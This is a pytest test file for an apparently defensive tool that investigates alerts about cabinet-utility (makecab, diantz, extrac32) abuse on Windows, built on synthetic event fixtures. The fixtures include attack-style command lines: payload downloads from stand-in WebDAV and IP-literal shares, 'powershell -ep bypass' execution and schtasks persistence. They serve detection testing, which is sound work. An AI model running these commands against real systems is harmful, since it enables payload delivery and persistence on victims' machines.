"""Focused checks of single steps on small hand-built stores."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cabhunt.investigate import InvestigationContext, investigate
from cabhunt.investigate.artifacts import odd_name, randomish
from cabhunt.investigate.artifacts_index import ArtifactIndex
from cabhunt.investigate.corroboration import answers_ips
from cabhunt.model import Alert, CabinetRef, SourceRef
from tests.investigate.builder import MiniStore, alert_for, at, baseline, conn, filecreate, proc
from tests.investigate.scenarios import FLEET, SYS32


def _run(store: MiniStore, alert: Alert, **kw: object) -> Alert:
    return investigate([alert], InvestigationContext(store=store, **kw))[0]  # type: ignore[arg-type]


@pytest.mark.parametrize(("path", "odd"), [
    ("C:\\x\\CbsPersist_20260302101504.cab", False),
    ("C:\\x\\driver.cab", False),
    ("C:\\x\\a.tx_", False),
    ("C:\\x\\notes.txt", True),
    ("C:\\x\\img.jpg", True),
    ("C:\\x\\file.txt:payload.cab", True),
    ("C:\\x\\9f8e7d6c5b4a.cab", True),
    ("C:\\x\\xkq7zt92.cab", True),
    ("C:\\x\\setup-files.cab", False),
])
def test_odd_names(path: str, odd: bool) -> None:
    assert (odd_name(path) is not None) is odd


@given(st.text(max_size=40))
def test_name_heuristics_never_crash(name: str) -> None:
    randomish(name)
    odd_name(name)


def test_dns_answer_parsing() -> None:
    assert answers_ips("type:  5 cdn.example;::ffff:203.0.113.5;2001:db8::1;") == {"203.0.113.5", "2001:db8::1"}
    assert answers_ips(None) == set()


def test_security_4688_lineage_by_parent_pid_and_burst() -> None:
    """No process GUIDs (Security 4688): the chain is walked by host + parent PID before the child."""
    s = MiniStore()
    baseline(s, FLEET)
    host = "WS01"
    # an older, unrelated process with the same PID must not be chosen
    old = proc(host, SYS32 + "notepad.exe", "notepad", None, 700, t=-86400 * 3, code=4688)  # type: ignore[arg-type]
    ws = proc(host, SYS32 + "wscript.exe", "wscript.exe C:\\Users\\alice\\Downloads\\inv.js", None, 700, t=-60,  # type: ignore[arg-type]
              code=4688)
    rows = [proc(host, SYS32 + "makecab.exe", f"makecab.exe C:\\Users\\alice\\f{i}.dll C:\\Users\\alice\\f{i}.cab",
                 None, 800 + i, t=i * 20, code=4688, parent={"pid": 700, "exe": ws["process_executable"]})  # type: ignore[arg-type]
            for i in range(4)]
    uids = s.add(old, ws, *rows)
    s.add(*[filecreate(host, f"C:\\Users\\alice\\f{i}.cab", None, 800 + i, t=i * 20 + 1) for i in range(4)])  # type: ignore[arg-type]
    a = alert_for("makecab_download_cab", host, rows[0], [uids[2]],
                  sources=[SourceRef("C:\\Users\\alice\\f0.dll", "local", via="cmdline")],
                  cabinets=[CabinetRef("C:\\Users\\alice\\f0.cab", False, True)])
    a = _run(s, a)
    chain = a.extra["lineage"]["chain"]
    assert chain[0]["name"] == "wscript.exe" and chain[0]["event_uid"] == uids[1]
    assert "parent.suspicious" in a.finding_ids()
    assert "cabinet.burst" in a.finding_ids()


def test_proxy_zone_identifier_and_extrac32_followon() -> None:
    s = MiniStore()
    baseline(s, FLEET)
    host, src, cab = "WS02", "C:\\Users\\bob\\Downloads\\tool.ps1", "C:\\Users\\bob\\Downloads\\t.cab"
    mk = proc(host, SYS32 + "diantz.exe", f"diantz.exe {src} {cab}", "{D}", 900, user="bob")
    uids = s.add(mk)
    s.add(filecreate(host, src + ":Zone.Identifier", "{B}", 1, t=-600, code=15,
                     contents="[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=https://drop.example.net/tool.ps1\r\n"),
          filecreate(host, cab, "{D}", 900, t=1, sha="12" * 32, exe=SYS32 + "diantz.exe"),
          proc(host, SYS32 + "extrac32.exe", f"extrac32.exe /Y /E {cab}", "{X}", 901, t=120, user="bob"),
          proc(host, SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
               "powershell -ep bypass -f C:\\Users\\bob\\Downloads\\tool.ps1", "{P}", 902, t=180, user="bob"),
          proc(host, SYS32 + "schtasks.exe", 'schtasks /create /tn upd /tr "powershell -f C:\\Users\\bob\\Downloads\\tool.ps1"',
               "{S}", 903, t=200, user="bob"))
    a = alert_for("diantz_download_cab", host, mk, uids,
                  sources=[SourceRef(src, "local", via="cmdline")], cabinets=[CabinetRef(cab, False, True)])
    a = _run(s, a)
    ids = set(a.finding_ids())
    assert {"source.external", "followon.extraction", "followon.execution", "followon.persistence"} <= ids
    mark = next(f for f in a.findings if f.id == "source.external")
    assert any("HostUrl=https://drop.example.net" in e for e in mark.evidence)


def test_http_proxy_and_mapped_drive_registry() -> None:
    s = MiniStore()
    baseline(s, FLEET)
    host = "WS03"
    src = "\\\\dav.example.org@SSL\\DavWWWRoot\\x.dll"
    mk = proc(host, SYS32 + "makecab.exe", f"makecab.exe {src} C:\\Users\\Public\\x.cab", "{M}", 1000)
    uids = s.add(mk)
    s.add(conn(host, SYS32 + "svchost.exe", 1200, "198.51.100.20", 443, t=0.5, src_ip="10.1.2.9",
               domain="dav.example.org"),
          {"ts": at(0.8), "host_name": "proxy01", "event_provider": "proxy", "event_dataset": "squid",
           "event_code": 0, "source_ip": "10.1.2.9", "destination_domain": "dav.example.org",
           "url_full": "https://dav.example.org/DavWWWRoot/x.dll", "http_request_method": "GET",
           "http_response_status_code": 200, "http_response_bytes": 48213, "user_agent": "Microsoft-WebDAV-MiniRedir/10.0.19045"},
          {"ts": at(-50), "host_name": host, "event_provider": "sysmon", "event_code": 13,
           "registry_path": "HKU\\S-1-5-21-9\\Network\\Y\\RemotePath", "registry_value": "\\\\dav.example.org@SSL\\DavWWWRoot"})
    a = alert_for("makecab_download_cab", host, mk, uids,
                  sources=[SourceRef(src, "webdav", "dav.example.org", 443, False, "external", via="cmdline")],
                  cabinets=[CabinetRef("C:\\Users\\Public\\x.cab", False, True)])
    a = _run(s, a)
    ids = set(a.finding_ids())
    assert {"proxy.corroborated", "webdav.client_activity", "net.share_mapped", "net.external"} <= ids
    proxy = next(f for f in a.findings if f.id == "proxy.corroborated")
    assert "WebDAV" in proxy.title and any("48213 bytes" in e for e in proxy.evidence)


def test_network_alert_links_its_process_creation_by_pid() -> None:
    s = MiniStore()
    baseline(s, FLEET)
    host = "WS04"
    mk = proc(host, SYS32 + "diantz.exe", "diantz.exe \\\\203.0.113.77@8443\\s\\a.exe C:\\Users\\Public\\a.cab",
              "{DZ}", 1300, t=-1)
    c = conn(host, SYS32 + "diantz.exe", 1300, "203.0.113.77", 8443, t=0)
    uids = s.add(mk, c)
    a = alert_for("diantz_network", host, {**c, "process_entity_id": None}, [uids[1]], sources=[], cabinets=[],
                  destination={"ip": "203.0.113.77", "port": 8443, "domain": None, "scope": "external",
                               "ip_literal": True})
    before = a.id
    a = _run(s, a)
    assert a.id == before  # linking the process creation must not change the alert id
    assert a.process["command_line"].startswith("diantz.exe")
    ids = set(a.finding_ids())
    assert {"net.external", "net.ip_literal", "net.nonstandard_port", "net.corroborated", "source.ip_literal",
            "fleet.rare_process"} <= ids


def test_artifact_index_by_path_and_hash(tmp_path: Path) -> None:
    f = tmp_path / "ws01" / "C" / "Users" / "Public" / "X.cab"
    f.parent.mkdir(parents=True)
    f.write_bytes(b"MSCF-not-really")
    idx = ArtifactIndex(tmp_path)
    assert idx.by_path("WS01.corp.local", "c:\\users\\public\\x.CAB") == f
    assert idx.by_path("WS01", "C:\\Users\\..\\Public\\x.cab") is None
    import hashlib

    assert idx.by_sha256(hashlib.sha256(b"MSCF-not-really").hexdigest().upper()) == f
    assert idx.by_sha256("00" * 32) is None


def test_collected_cabinet_is_analysed(tmp_path: Path) -> None:
    pytest.importorskip("cabhunt.cab.analyze", reason="cabinet analysis not available yet")
    from tests.conftest import shared_or_skip

    sample = shared_or_skip("fixtures/cab/libmspack/hidden-files.cab")
    import hashlib

    data = sample.read_bytes()
    sha = hashlib.sha256(data).hexdigest()
    (tmp_path / "by-hash").mkdir()
    (tmp_path / "by-hash" / "sample.bin").write_bytes(data)
    s = MiniStore()
    baseline(s, FLEET)
    host, cab = "WS05", "C:\\Users\\Public\\s.cab"
    mk = proc(host, SYS32 + "makecab.exe", f"makecab.exe \\\\fs01\\x\\a.txt {cab}", "{M}", 1400)
    uids = s.add(mk)
    s.add(filecreate(host, cab, "{M}", 1400, t=1, sha=sha))
    a = alert_for("makecab_download_cab", host, mk, uids,
                  sources=[SourceRef("\\\\fs01\\x\\a.txt", "smb", "fs01", via="cmdline")],
                  cabinets=[CabinetRef(cab, False, True)])
    a = _run(s, a, artifacts=tmp_path)
    doc = a.extra["cab"][cab]
    assert doc["artifact"].endswith("sample.bin")
    assert doc.get("members")
    diff = next(f for f in a.findings if f.id == "cab.parser_differential")
    assert diff.step == "artifacts" and any("hidden1.txt" in e for e in diff.evidence)
    assert diff.weight > 0


def test_minimal_and_odd_alerts_do_not_break_any_step() -> None:
    from cabhunt.model import RuleRef

    s = MiniStore()
    rule = RuleRef("CNC-E-2726320-142", "Diantz Network Connection", "diantz_network", "u")
    odd = [
        Alert(timestamp="2026-03-02T10:15:04.123Z", rule=rule, host=None),
        Alert(timestamp="not a time", rule=rule, host="WS01", process={"pid": "12x"}),
        Alert(timestamp="2026-03-02T10:15:04Z", rule=rule, host="WS01",
              process={"command_line": '"unterminated \\\\ host', "parent": None},
              destination={"ip": "not-an-ip", "port": "x"}),
    ]
    out = investigate(odd, InvestigationContext(store=s))
    assert len(out) == 3
    for a in out:
        assert a.verdict in ("benign", "suspicious", "malicious")
        assert a.to_dict()["cabhunt"]["why"]
        assert not [v for v in (a.extra.get("steps") or {}).values() if v.startswith("failed")]


def test_fleet_spread_of_the_same_source_host_and_cabinet_hash() -> None:
    s = MiniStore()
    baseline(s, FLEET)
    src = "\\\\198.51.100.7\\share\\payload.dll"
    rows = [proc(h, SYS32 + "makecab.exe", f"makecab.exe {src} C:\\Users\\Public\\p.cab", f"{{F{i}}}", 2000 + i,
                 t=i * 300) for i, h in enumerate(("WS01", "WS02", "WS03"))]
    uids = s.add(*rows)
    s.add(*[filecreate(h, "C:\\Users\\Public\\p.cab", f"{{F{i}}}", 2000 + i, t=i * 300 + 1, sha="77" * 32, code=15)
            for i, h in enumerate(("WS01", "WS02", "WS03"))],
          conn("WS05", "C:\\Program Files\\Browser\\browser.exe", 99, "198.51.100.7", 443, t=-9000))
    a = alert_for("makecab_download_cab", "WS01", rows[0], [uids[0]],
                  sources=[SourceRef(src, "smb", "198.51.100.7", None, True, "external", via="cmdline")],
                  cabinets=[CabinetRef("C:\\Users\\Public\\p.cab", False, True)])
    a = _run(s, a)
    spread = next(f for f in a.findings if f.id == "fleet.spread")
    assert "2 other host(s)" in spread.title
    text = " ".join(spread.evidence)
    assert "cabinet_hash" in text and "source_location:\\\\198.51.100.7\\share\\" in text and "ws05" not in text
    assert "fleet.rare_destination" not in a.finding_ids()  # ws05 talks to it too
